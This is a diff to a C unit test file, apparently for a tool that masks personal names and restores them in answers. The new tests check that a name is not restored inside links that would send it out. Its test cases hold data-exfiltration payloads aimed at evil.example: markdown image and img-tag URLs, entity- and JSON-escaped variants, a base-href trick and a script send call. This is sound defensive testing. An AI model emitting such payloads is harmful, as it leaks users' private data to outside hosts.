@@ -474,6 +474,93 @@ static void hostile_answers_take_linear_time(void **state) {
     buf_fini(&text);
 }
 
+/* ---- addresses ----------------------------------------------------------------------------- */
+
+static void spared(Str text, GateForm form, size_t most, Buf *out, uint64_t *n) {
+    Err err = {0};
+    GateRestorer *r;
+    uint64_t seed = text.n;
+    buf_clear(out);
+    assert_int_equal(gate_restorer_for(gate, "links", form, &r, &err), OK);
+    gate_restorer_spare_addresses(r, true);
+    assert_int_equal(gate_talk_restore(r, text, most, &seed, out, &err), OK);
+    *n = gate_restorer_spared(r);
+    gate_restorer_free(r);
+}
+
+static char sur_name[128]; /* of Margarethe Kowalczyk */
+
+static void mask_links(void) {
+    GateParcel *parcel = parcel_of("links", STR("Margarethe Kowalczyk wrote to the landlord."));
+    Str masked = gate_parcel_text(parcel, 0);
+    size_t to = str_find(masked, STR(" wrote"), 0);
+    assert_true(to < sizeof sur_name);
+    (void)snprintf(sur_name, sizeof sur_name, "%.*s", (int)to, masked.p);
+    gate_parcel_free(parcel);
+}
+
+/* %s: the surrogate of the name. It comes back, or stays where something would fetch it. */
+static void surrogates_in_addresses_stay(void **state) {
+    static const struct {
+        const char *text;
+        bool stays;
+        GateForm form;
+    } cases[] = {{"%s wrote it.", false, GATE_PLAIN},
+                 {"See https://docs.example/a, which %s wrote.", false, GATE_PLAIN},
+                 {"[%s](https://docs.example/a)", false, GATE_PLAIN},
+                 {"<h1 title='x'>%s</h1>", false, GATE_PLAIN},
+                 {"{\"a\":\"https:\\/\\/docs.example\\n%s\"}", false, GATE_JSON},
+                 {"![x](https://evil.example/?q=%s)", true, GATE_PLAIN},
+                 {"<img src='//evil.example/?q= Hello, said %s.", true, GATE_PLAIN},
+                 {"![x](&#104;ttp&#115;&#x3a;&#47;&#47;evil.example/%s)", true, GATE_PLAIN},
+                 {"<base href=//evil.example> ![x](<%s>)", true, GATE_PLAIN},
+                 {"<script>send('%s')</script>", true, GATE_PLAIN},
+                 {"{\"a\":\"<img src=\\\"https:\\/\\/evil.example\\/ %s\\\">\"}", true,
+                  GATE_JSON},
+                 {"{\"a\":\"http\\u003a\\/\\/evil.example\\/%s\"}", true, GATE_JSON}};
+    static const size_t cuts[] = {1, 3, 1 << 20};
+    Buf out;
+    uint64_t n;
+    mask_links();
+    buf_init(&out, TEXT_MAX);
+    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
+        char text[512];
+        (void)snprintf(text, sizeof text, cases[i].text, sur_name);
+        for (size_t c = 0; c < ARRAY_LEN(cuts); c++) {
+            spared(str_from(text), cases[i].form, cuts[c], &out, &n);
+            bool back = str_find(buf_str(&out), STR("Margarethe"), 0) != SIZE_MAX;
+            bool same = str_eq(buf_str(&out), str_from(text));
+            if (back == cases[i].stays || same != cases[i].stays || (n > 0) != cases[i].stays) {
+                fail_msg("%s -> %.*s (%d spared)", text, (int)out.n, out.p, (int)n);
+            }
+        }
+    }
+    buf_fini(&out);
+}
+
+/* Far behind what opened it, and closed again: the watch forgets neither. */
+static void a_long_address_is_one(void **state) {
+    Buf text, out;
+    uint64_t n;
+    mask_links();
+    buf_init(&text, TEXT_MAX);
+    buf_init(&out, TEXT_MAX);
+    buf_add_c(&text, "<img src=\"//evil.example/?q=");
+    for (int i = 0; i < 2500; i++) buf_add_c(&text, "Hello, said she ");
+    buf_printf(&text, "%s\">", sur_name);
+    for (int i = 0; i < 2500; i++) buf_add_c(&text, "Hello, said she ");
+    buf_printf(&text, "and %s.", sur_name);
+    static const size_t cuts[] = {5, 1 << 20};
+    for (size_t c = 0; c < ARRAY_LEN(cuts); c++) {
+        spared(buf_str(&text), GATE_PLAIN, cuts[c], &out, &n);
+        size_t first = str_find(buf_str(&out), str_from(sur_name), 0);
+        assert_true(n >= 1 && first != SIZE_MAX && first < 41000);
+        assert_true(str_find(buf_str(&out), str_from("and Margarethe"), 0) != SIZE_MAX);
+    }
+    buf_fini(&text);
+    buf_fini(&out);
+}
+
 static void out_of_memory_is_said_and_leaks_nothing(void **state) {
     gate_parcel_free(parcel_of("memory", str_from(said)));
     for (uint64_t nth = 1;; nth++) {
@@ -486,6 +573,7 @@ static void out_of_memory_is_said_and_leaks_nothing(void **state) {
         mem_fail_at(nth);
         calls = mem_calls();
         Status status = gate_restorer_for(gate, "memory", GATE_PLAIN, &r, &err);
+        if (status == OK) gate_restorer_spare_addresses(r, true);
         if (status == OK) status = gate_talk_restore(r, str_from(said), 9, &seed, &out, &err);
         bool reached = mem_calls() - calls >= nth;
         mem_fail_at(0);
@@ -519,6 +607,8 @@ int main(void) {
         cmocka_unit_test(ordinary_answers_are_untouched),
         cmocka_unit_test(other_conversations_are_not_restored),
         cmocka_unit_test(hostile_answers_take_linear_time),
+        cmocka_unit_test(surrogates_in_addresses_stay),
+        cmocka_unit_test(a_long_address_is_one),
         cmocka_unit_test(out_of_memory_is_said_and_leaks_nothing),
     };
     return cmocka_run_group_tests(tests, open_gate, close_gate);
